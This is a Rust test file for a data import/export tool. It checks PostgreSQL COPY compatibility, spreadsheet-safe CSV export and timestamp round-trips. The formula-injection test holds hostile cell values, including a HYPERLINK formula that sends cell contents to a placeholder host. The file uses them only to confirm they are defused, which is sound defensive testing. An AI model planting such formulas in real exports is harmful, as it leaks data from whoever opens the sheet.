//! What readers make of an export: PostgreSQL's COPY, spreadsheets that split where we do not, and the import.

use bytes::Bytes;
use futures_util::SinkExt;

use muster::internals::db::connect;

use crate::support::{Database, Muster, block_on};

const PATHS: &str = "entity = \"paths\"\nkey = \"path\"\n\n[[field]]\nname = \"path\"\ntype = \"text\"\nrequired = true\n\n\
    [[field]]\nname = \"n\"\ntype = \"integer\"\n";

#[test]
fn postgresql_reads_every_row_of_an_export_of_one_column() {
    let database = Database::new();
    let muster = Muster::on(&database)
        .file("schemas/paths.toml", PATHS)
        .file("paths.csv", "path,n\na,1\n\\.,2\n\\..,3\n\\N,4\nb,5\n");
    muster.run(["import", "--schemas", "schemas", "paths.csv", "--out", "in"]).exits(0);
    let run = muster.run(["export", "--schemas", "schemas", "--columns", "path", "--out", "ex"]).exits(0);
    let file = run.text("ex/paths.csv");
    assert_eq!(file, "path\n\"\\.\"\n\\..\n\\N\na\nb\n");
    database.rows("CREATE TABLE back (path text)");
    block_on(async {
        let session = connect(Some(&database.url()), "muster tests").await.unwrap();
        let copy = "COPY back FROM STDIN (FORMAT csv, HEADER)";
        let mut sink = Box::pin(session.client.copy_in::<_, Bytes>(copy).await.unwrap());
        sink.send(Bytes::from(file)).await.unwrap();
        sink.as_mut().finish().await.unwrap();
    });
    let rows = "SELECT path FROM back ORDER BY path COLLATE \"C\"";
    assert_eq!(database.text(rows), database.text(&rows.replace("back", "paths")));
}

#[test]
fn no_cell_is_a_formula_at_whichever_separator_a_spreadsheet_splits() {
    let database = Database::new();
    let names = [
        "=1+1",
        "Jansen;=HYPERLINK(\"\"http://example/\"\"&A1)",
        "Jansen, \"\"=1\"\"",
        "a|-1;@b",
        "a;'=1",
        "a;;;\u{a0}+1",
        "O'Neill, 's-Gravenhage",
    ];
    let rows: String = (1..).zip(names).map(|(number, name)| format!("{number};\"{name}\"\n")).collect();
    let muster = Muster::on(&database).file("accounts.csv", format!("legacyId;name\n{rows}"));
    muster.run(["import", "accounts.csv", "--out", "in"]).exits(0);
    let before = database.versions();
    for delimiter in [",", ";", "\\t"] {
        let args = ["export", "accounts", "--out", "sheet", "--for-spreadsheet", "--delimiter", delimiter];
        let run = muster.run(args).exits(0);
        let text = run.text("sheet/accounts.csv");
        for cell in text.split([',', ';', '|', '\t', '\r', '\n']) {
            let begins = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
            assert!(!begins.starts_with(['=', '+', '-', '@']), "{delimiter} {cell:?}");
        }
        assert!(text.contains("O'Neill, 's-Gravenhage"), "{text}");
        let again =
            muster.run(["import", "--from-spreadsheet", "sheet/accounts.csv", "--out", "again"]).exits(0);
        assert_eq!(again.summary("again")["entities"][0]["unchanged"], names.len(), "{again}");
        assert_eq!(again.summary("again")["entities"][0]["unguarded"], names.len() - 1, "{again}");
    }
    assert_eq!(database.versions(), before);
}

#[test]
fn the_end_of_the_calendar_goes_out_and_comes_back_in_every_format() {
    let schema = "entity = \"rows\"\nkey = \"k\"\n\n[[field]]\nname = \"k\"\ntype = \"text\"\nrequired = true\n\n\
        [[field]]\nname = \"until\"\ntype = \"timestamp\"\n\n[[field]]\nname = \"day\"\ntype = \"date\"\n";
    let database = Database::new();
    let muster = Muster::on(&database).file("schemas/rows.toml", schema).file(
        "rows.csv",
        "k,until,day\n1,9999-12-31T23:59:59.999999Z,9999-12-31\n2,9999-12-31T01:00:00+01:00,\n",
    );
    muster.run(["import", "--schemas", "schemas", "rows.csv", "--out", "in"]).exits(0);
    let versions = || database.text("SELECT k, until, day, xmin FROM rows ORDER BY k");
    let before = versions();
    for format in ["csv", "ndjson", "parquet"] {
        muster.run(["export", "--schemas", "schemas", "--format", format, "--out", "ex"]).exits(0);
        let file = format!("ex/rows.{format}");
        let run = muster.run(["import", "--schemas", "schemas", &file, "--out", "out"]).exits(0);
        assert!(run.findings("out").is_empty(), "{format}{run}");
        assert_eq!(versions(), before, "{format}");
    }
}
